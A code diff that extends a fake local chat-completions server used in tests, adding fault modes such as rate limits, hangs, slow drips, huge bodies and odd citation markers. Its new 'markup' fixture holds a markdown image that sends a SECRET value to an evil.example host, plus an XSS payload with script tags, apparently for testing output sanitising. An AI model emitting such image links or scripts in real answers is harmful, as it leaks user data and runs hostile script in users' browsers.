@@ -14,13 +14,43 @@ from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Literal
 
-Behaviour = Literal["ok", "status 500", "status 429", "timeout", "cut", "invalid_json", "empty"]
-BEHAVIOURS: tuple[Behaviour, ...] = ("ok", "status 500", "status 429", "timeout", "cut", "invalid_json", "empty")
+Behaviour = Literal[
+    "ok",
+    "status 500",
+    "status 429",
+    "retry_after 30",
+    "timeout",
+    "hang",
+    "drip",
+    "huge",
+    "cut",
+    "invalid_json",
+    "empty",
+    "markup",
+    "odd_markers",
+]
+BEHAVIOURS: tuple[Behaviour, ...] = Behaviour.__args__  # type: ignore[attr-defined]
+"""ok: a good answer; status 500/429: an error (429 with Retry-After: 1); retry_after 30: a 429 asking for
+30 s; timeout: silence for TIMEOUT_SLEEP s; hang: silence until the server stops (at most HANG_SLEEP s);
+drip: a long answer, one piece every DRIP_SECONDS (a JSON body too, byte by byte); huge: HUGE_PIECES pieces
+of 100 characters at once (200 KB); cut: a stream closed in the middle; invalid_json; empty: no text;
+markup: an answer with an image, HTML and script; odd_markers: citation markers of odd shapes."""
 
 OK_PIECES = ("A posting rhythm is a tactic, ", "not a strategy ", "[1].")
 CUT_PIECES = ("A posting rhythm is a tactic [1]. ", "It is not ")
+MARKUP_PIECES = (
+    "A rhythm is a tactic [1]. ![x](http://evil.example/leak.png?q=SECRET) ",
+    '<img src=x onerror="alert(1)"><script>alert(1)</script>',
+    "See [the guide](http://evil.example/) too.",
+)
+ODD_MARKER_PIECES = ("A rhythm is a tactic [1]. ", "It needs goals [100], [1,7] and ", "a plan [ 7 ] [^2].")
+HUGE_PIECE = "A posting rhythm is a tactic, not a strategy, and a plan needs goals first [1]. Really, it does. "
+HUGE_PIECES = 2000
+DRIP_SECONDS = 2.0
+DRIP_PIECES = 60
 # Longer than any client timeout the tests set, but bounded: a stopped server releases it at once.
 TIMEOUT_SLEEP = 8.0
+HANG_SLEEP = 120.0
 
 
 @dataclass
@@ -36,7 +66,9 @@ class Request:
 class FaultServer:
     """Serves `POST /v1/chat/completions` on 127.0.0.1 following a queue of behaviours."""
 
-    def __init__(self) -> None:
+    def __init__(self, default: Behaviour | None = None) -> None:
+        """`default`: what a request beyond the plan gets (None: a 599)."""
+        self.default = default
         self._plan: deque[Behaviour] = deque()
         self._lock = threading.Lock()
         self.requests: list[Request] = []
@@ -66,7 +98,7 @@ class FaultServer:
 
     def next_behaviour(self) -> Behaviour | None:
         with self._lock:
-            return self._plan.popleft() if self._plan else None
+            return self._plan.popleft() if self._plan else self.default
 
     def record(self, request: Request) -> None:
         with self._lock:
@@ -75,6 +107,12 @@ class FaultServer:
     def start(self) -> "FaultServer":
         self._thread.start()
         return self
+
+    def __enter__(self) -> "FaultServer":
+        return self
+
+    def __exit__(self, *exc_info) -> None:
+        self.stop()
 
     def stop(self) -> None:
         self.stopping.set()  # releases handlers sleeping in `timeout`
@@ -122,16 +160,25 @@ class _Handler(BaseHTTPRequestHandler):
             return self._json(599, {"error": {"message": "request beyond the fault plan", "type": "test"}})
         if behaviour == "status 500":
             return self._json(500, {"error": {"message": "injected server error", "type": "server_error"}})
-        if behaviour == "status 429":
+        if behaviour in ("status 429", "retry_after 30"):
             error = {"error": {"message": "injected rate limit", "type": "rate_limit"}}
-            return self._json(429, error, {"Retry-After": "1"})
-        if behaviour == "timeout":
-            self.server_state.stopping.wait(TIMEOUT_SLEEP)
+            return self._json(429, error, {"Retry-After": "1" if behaviour == "status 429" else "30"})
+        if behaviour in ("timeout", "hang"):
+            self.server_state.stopping.wait(TIMEOUT_SLEEP if behaviour == "timeout" else HANG_SLEEP)
             self.close_connection = True
             return None
+        if behaviour == "drip":
+            return self._drip(stream)
         if behaviour == "invalid_json":
             return self._invalid_json(stream)
-        pieces = {"ok": OK_PIECES, "cut": CUT_PIECES, "empty": ()}[behaviour]
+        pieces = {
+            "ok": OK_PIECES,
+            "cut": CUT_PIECES,
+            "empty": (),
+            "markup": MARKUP_PIECES,
+            "odd_markers": ODD_MARKER_PIECES,
+            "huge": (HUGE_PIECE,) * HUGE_PIECES,
+        }[behaviour]
         if not stream:
             return self._json(200, _completion("".join(pieces)))
         return self._stream(pieces, complete=behaviour != "cut")
@@ -160,6 +207,28 @@ class _Handler(BaseHTTPRequestHandler):
         self._chunk(b"data: [DONE]\n\n")
         self._chunk(b"")
 
+    def _drip(self, stream: bool) -> None:
+        """One piece every DRIP_SECONDS: every read is quick enough for a per-read timeout, the whole is not."""
+        stopping = self.server_state.stopping
+        if not stream:
+            data = json.dumps(_completion(HUGE_PIECE)).encode()
+            self._start_stream("application/json")
+            for byte in range(len(data)):
+                if stopping.wait(DRIP_SECONDS):
+                    return
+                self._chunk(data[byte : byte + 1])
+            self._chunk(b"")
+            return
+        self._start_stream()
+        self._event(_chunk_payload({"role": "assistant", "content": ""}))
+        for _ in range(DRIP_PIECES):
+            if stopping.wait(DRIP_SECONDS):
+                return
+            self._event(_chunk_payload({"content": "Slowly [1]. "}))
+        self._event(_chunk_payload({}, finish_reason="stop"))
+        self._chunk(b"data: [DONE]\n\n")
+        self._chunk(b"")
+
     def _stream(self, pieces: tuple[str, ...], complete: bool) -> None:
         self._start_stream()
         self._event(_chunk_payload({"role": "assistant", "content": ""}))
@@ -173,9 +242,9 @@ class _Handler(BaseHTTPRequestHandler):
         self._chunk(b"data: [DONE]\n\n")
         self._chunk(b"")
 
-    def _start_stream(self) -> None:
+    def _start_stream(self, content_type: str = "text/event-stream") -> None:
         self.send_response(200)
-        self.send_header("Content-Type", "text/event-stream")
+        self.send_header("Content-Type", content_type)
         self.send_header("Cache-Control", "no-cache")
         self.send_header("Transfer-Encoding", "chunked")
         self.end_headers()
